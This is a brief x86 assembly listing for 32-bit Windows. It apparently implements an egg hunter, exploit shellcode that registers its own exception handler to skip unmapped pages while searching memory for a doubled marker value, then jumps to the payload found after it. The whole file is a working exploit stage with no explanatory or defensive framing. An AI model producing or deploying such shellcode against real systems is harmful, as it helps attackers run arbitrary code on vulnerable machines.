; Windows, 32 bit: walks through memory with a handler of its own for pages that are not there.
bits 32
        jmp short frame
back:   pop ecx
        push ecx
        push byte -1
        xor ebx, ebx
        mov [fs:ebx], esp
next:   push byte 2
        pop ecx
        mov eax, 0x50905090
        mov edi, ebx
scan:   repe scasd
        jnz more
        jmp edi
page:   or bx, 0xfff
more:   inc ebx
        jmp short next
frame:  call back
        push byte 12            ; handler: the fault goes on at the next page
        pop ecx
        mov eax, [esp + ecx]
        mov cl, 0xb8
        add dword [eax + ecx], byte page - scan
        pop eax
        add esp, byte 16
        push eax
        xor eax, eax
        ret
